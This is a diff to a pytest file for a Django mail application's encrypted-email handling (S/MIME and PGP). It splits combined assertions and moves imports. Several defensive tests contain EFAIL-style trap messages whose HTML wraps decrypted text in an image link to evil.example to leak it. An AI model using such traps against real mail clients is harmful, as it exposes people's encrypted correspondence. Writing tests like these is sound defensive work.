@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import logging
+from base64 import encodebytes
 
 import pytest
 from django.test import Client
@@ -26,6 +27,7 @@ from kundig.channels.email.protected.tests.people import (
 )
 from kundig.conversations.remote_pictures import proxied
 from kundig.core.actor import SYSTEM
+from kundig.core.errors import Refused
 from kundig.core.models import AuditEntry, Event
 from kundig.staff.models import Agent
 
@@ -37,11 +39,14 @@ def test_an_encrypted_mail_says_what_it_says(smime_key: Mailbox) -> None:
     body = smime_encrypted(entity("Meine Nummer ist 4711."), [certified(HELP)], certified(KOFI))
     message = arrived(smime_key, mail(body))
     assert message.text.strip() == "Meine Nummer ist 4711."
-    assert message.protection["encrypted"] == "whole" and verdicts(message) == ["good"]
+    assert message.protection["encrypted"] == "whole"
+    assert verdicts(message) == ["good"]
     page = drawn(message)
-    assert "Received encrypted" in page and "Signed by kofi@kunde.example" in page
+    assert "Received encrypted" in page
+    assert "Signed by kofi@kunde.example" in page
     # The original stays as it came.
-    assert message.raw is not None and b"4711" not in bytes(message.raw.content)
+    assert message.raw is not None
+    assert b"4711" not in bytes(message.raw.content)
 
 
 def test_files_within_an_encrypted_mail_are_the_messages_files(smime_key: Mailbox) -> None:
@@ -65,7 +70,8 @@ def test_m34_the_key_of_another_mailbox_opens_nothing(smime_key: Mailbox) -> Non
     other = mailboxes.make(by=SYSTEM, address="chef@firma.example")
     body = smime_encrypted(entity("Nur für die Hilfe"), [certified(HELP)])
     message = arrived(other, mail(body))
-    assert message.protection["trouble"] == "no_key" and "Nur" not in message.text
+    assert message.protection["trouble"] == "no_key"
+    assert "Nur" not in message.text
 
 
 def test_a_retired_key_still_opens_what_was_encrypted_for_it(smime_key: Mailbox) -> None:
@@ -77,7 +83,8 @@ def test_a_retired_key_still_opens_what_was_encrypted_for_it(smime_key: Mailbox)
 def test_m34_whoever_signs_the_outside_need_not_know_the_inside(smime_key: Mailbox) -> None:
     body = smime_signed(smime_encrypted(entity(), [certified(HELP)]), certified(KOFI))
     message = arrived(smime_key, mail(body))
-    assert verdicts(message) == ["envelope"] and not is_green(message)
+    assert verdicts(message) == ["envelope"]
+    assert not is_green(message)
 
 
 def test_m34_decrypted_and_other_parts_never_share_a_document(smime_key: Mailbox) -> None:
@@ -86,7 +93,8 @@ def test_m34_decrypted_and_other_parts_never_share_a_document(smime_key: Mailbox
         entity('<img src="https://evil.example/', "text/html"), stolen, entity('">', "text/html")
     )
     message = arrived(smime_key, mail(trap, sender="mallory@evil.example"))
-    assert message.html == "" and "Geheim: 4711" in message.text
+    assert message.html == ""
+    assert "Geheim: 4711" in message.text
     assert message.protection["encrypted"] == "part"
     assert "Only this part was encrypted:" in drawn(message)
 
@@ -96,7 +104,8 @@ def test_m34_nor_where_the_trap_itself_is_encrypted(smime_key: Mailbox) -> None:
     trap = mixed(entity('<img src="https://evil.example/', "text/html"), stolen)
     body = smime_encrypted(trap, [certified(HELP)])
     message = arrived(smime_key, mail(body, sender="mallory@evil.example"))
-    assert message.html == "" and "4711" in message.text
+    assert message.html == ""
+    assert "4711" in message.text
 
 
 def test_m34_nothing_is_fetched_for_an_encrypted_mail(
@@ -104,10 +113,12 @@ def test_m34_nothing_is_fetched_for_an_encrypted_mail(
 ) -> None:
     body = smime_encrypted(entity(PICTURE, "text/html"), [certified(HELP)])
     message = arrived(smime_key, mail(body))
-    assert "4711" in message.html and "remote_pictures" not in message.warnings
+    assert "4711" in message.html
+    assert "remote_pictures" not in message.warnings
     client.force_login(clara)
     page = client.get(f"/messages/{message.pk}/html/?pictures")
-    assert page.status_code == 200 and b"evil.example" not in page.content
+    assert page.status_code == 200
+    assert b"evil.example" not in page.content
     assert b"/pictures/" not in page.content
     assert client.get(proxied(message, "https://evil.example/x.png")).status_code == 404
 
@@ -120,15 +131,19 @@ def test_m34_decrypted_text_stands_in_no_log_and_no_event(
     arrived(smime_key, mail(body))
     assert "Xyzzy" not in caplog.text
     told = str([*Event.objects.values_list("data"), *AuditEntry.objects.values_list("data")])
-    assert "Xyzzy" not in told and "PRIVATE" not in told and "geheim" not in told
+    assert "Xyzzy" not in told
+    assert "PRIVATE" not in told
+    assert "geheim" not in told
 
 
 def test_pgp_mail_signed_and_encrypted_in_one(pgp_key: Mailbox) -> None:
     actions.add_known(by=SYSTEM, content=bytes(public(pgp(KOFI))))
     body = pgp_encrypted(entity("Meine Nummer ist 4711."), [pgp(HELP)], pgp(KOFI))
     message = arrived(pgp_key, mail(body))
-    assert message.text.strip() == "Meine Nummer ist 4711." and verdicts(message) == ["good"]
-    assert message.protection["encrypted"] == "whole" and is_green(message)
+    assert message.text.strip() == "Meine Nummer ist 4711."
+    assert verdicts(message) == ["good"]
+    assert message.protection["encrypted"] == "whole"
+    assert is_green(message)
     assert not message.attachments.exists()
 
 
@@ -136,7 +151,8 @@ def test_m34_pgp_mail_signed_with_the_key_of_another_address(pgp_key: Mailbox) -
     actions.add_known(by=SYSTEM, content=bytes(public(pgp(IDA))))
     body = pgp_encrypted(entity(), [pgp(HELP)], pgp(IDA))
     message = arrived(pgp_key, mail(body, sender=KOFI))
-    assert verdicts(message) == ["other_signer"] and not is_green(message)
+    assert verdicts(message) == ["other_signer"]
+    assert not is_green(message)
 
 
 def test_pgp_mail_for_somebody_else_stays_closed(pgp_key: Mailbox) -> None:
@@ -156,8 +172,10 @@ def test_m34_words_around_an_inline_message_are_kept_apart(pgp_key: Mailbox) -> 
     html = entity(f'<img src="https://evil.example/{armored}">', "text/html")
     body = mixed(entity(f"Hallo\n\n{armored}\n\nGruß"), html, kind="alternative")
     message = arrived(pgp_key, mail(body))
-    assert message.html == "" and message.protection["encrypted"] == "part"
-    assert "Geheim 4711" in message.text and "Hallo" in message.text
+    assert message.html == ""
+    assert message.protection["encrypted"] == "part"
+    assert "Geheim 4711" in message.text
+    assert "Hallo" in message.text
     assert "BEGIN PGP" not in message.text
 
 
@@ -166,8 +184,6 @@ def test_m34_pgp_without_integrity_protection_stays_closed(pgp_key: Mailbox) -> 
     sealed = encrypt(b"x", recipients=[public(pgp(HELP))], armor=False)
     key_packet = sealed[: 2 + sealed[1]]
     content = key_packet + bytes([0xC0 | 9, 40]) + bytes(range(40))
-    from base64 import encodebytes
-
     armored = (
         b"-----BEGIN PGP MESSAGE-----\n\n" + encodebytes(content) + b"-----END PGP MESSAGE-----\n"
     )
@@ -196,17 +212,16 @@ def test_what_is_damaged_arrives_as_it_came(smime_key: Mailbox) -> None:
 
 
 def test_a_wrong_password_adds_no_key(mailbox: Mailbox) -> None:
-    from kundig.core.errors import Refused
-
     content = pkcs12_of(certified(HELP), "geheim")
     with pytest.raises(Refused, match="password does not open"):
         actions.add_key(mailbox, by=SYSTEM, scheme="smime", content=content, password="falsch")
+    other = pkcs12_of(certified(KOFI), "geheim")
     with pytest.raises(Refused, match="not to this mailbox"):
-        other = pkcs12_of(certified(KOFI), "geheim")
         actions.add_key(mailbox, by=SYSTEM, scheme="smime", content=other, password="geheim")
     assert not mailbox.own_keys.exists()
 
 
 def test_the_private_part_is_sealed(smime_key: Mailbox) -> None:
     key = smime_key.own_keys.get()
-    assert "PRIVATE" not in key.public and b"PRIVATE" not in bytes(key.secret.sealed)
+    assert "PRIVATE" not in key.public
+    assert b"PRIVATE" not in bytes(key.secret.sealed)
